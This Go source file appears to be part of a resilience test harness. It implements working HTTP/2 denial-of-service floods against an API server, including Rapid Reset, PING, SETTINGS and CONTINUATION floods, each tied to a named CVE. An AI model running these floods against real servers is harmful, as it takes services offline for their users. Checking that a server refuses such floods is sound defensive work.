package attacks

import (
	"context"
	"strings"
	"time"

	"golang.org/x/net/http2"
)

const floodConnections = 8

// flood opens connections and writes batches to each for as long as the server
// takes them.
func flood(by credential, connections int, batch func(*raw) error) func(context.Context, *Attacker) error {
	return func(ctx context.Context, a *Attacker) error {
		return a.parallel(ctx, connections, func(ctx context.Context) error {
			r, err := a.http2(ctx, by)
			if err != nil {
				return err
			}
			defer r.close()
			for {
				if err := batch(r); err != nil {
					return err
				}
				a.count("batches")
				if err := r.flush(); err != nil {
					return err
				}
			}
		})
	}
}

// rapidReset is CVE-2023-44487: requests that are canceled immediately.
func rapidReset(by credential) Attack {
	return Attack{
		Name: "rapid-reset-" + by.String(), About: "8 connections of HTTP/2, each request reset in the same packet",
		OnConnections: true,
		Short:         3 * time.Second, Full: 10 * time.Second, Refused: []string{"resets", "anonymous_requests"},
		Expected: []string{"closed"},
		run: flood(by, floodConnections, func(r *raw) error {
			for range 100 {
				stream, err := r.get("/api/v1/configmaps")
				if err != nil {
					return err
				}
				if err := r.fr.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
					return err
				}
			}
			return nil
		}),
	}
}

// pingFlood is CVE-2019-9512, by a client that reads the answers.
func pingFlood(by credential) Attack {
	return Attack{
		Name: "ping-flood-" + by.String(), About: "8 connections of PING frames",
		OnConnections: true,
		Short:         2 * time.Second, Full: 6 * time.Second, Refused: []string{"throttled"},
		run: flood(by, floodConnections, func(r *raw) error {
			for range 200 {
				if err := r.fr.WritePing(false, [8]byte{1}); err != nil {
					return err
				}
			}
			return nil
		}),
	}
}

// settingsFlood is CVE-2019-9515, by a client that reads the answers.
func settingsFlood(by credential) Attack {
	return Attack{
		Name: "settings-flood-" + by.String(), About: "8 connections of SETTINGS frames",
		OnConnections: true,
		Short:         2 * time.Second, Full: 6 * time.Second, Refused: []string{"throttled"},
		run: flood(by, floodConnections, func(r *raw) error {
			for i := range uint32(200) {
				if err := r.fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1<<20 + i}); err != nil {
					return err
				}
			}
			return nil
		}),
	}
}

// continuationFlood is CVE-2023-45288: headers that do not end.
func continuationFlood(by credential) Attack {
	return Attack{
		Name: "continuation-flood-" + by.String(), About: "8 connections of CONTINUATION frames without an end",
		OnConnections: true,
		Short:         2 * time.Second, Full: 6 * time.Second, Refused: []string{"throttled"},
		run: func(ctx context.Context, a *Attacker) error {
			return a.parallel(ctx, floodConnections, func(ctx context.Context) error {
				r, err := a.http2(ctx, by)
				if err != nil {
					return err
				}
				defer r.close()
				if err := r.fr.WriteHeaders(http2.HeadersFrameParam{
					StreamID: 1, BlockFragment: r.headers("GET", "/api"),
				}); err != nil {
					return err
				}
				for {
					piece := append([]byte("\x00\x03x-a\x7f\xa1\x1e"), strings.Repeat("x", 4000)...) // a literal: RFC 7541 6.2.2
					if err := r.fr.WriteContinuation(1, false, piece); err != nil {
						return err
					}
					if err := r.flush(); err != nil {
						return err
					}
				}
			})
		},
	}
}
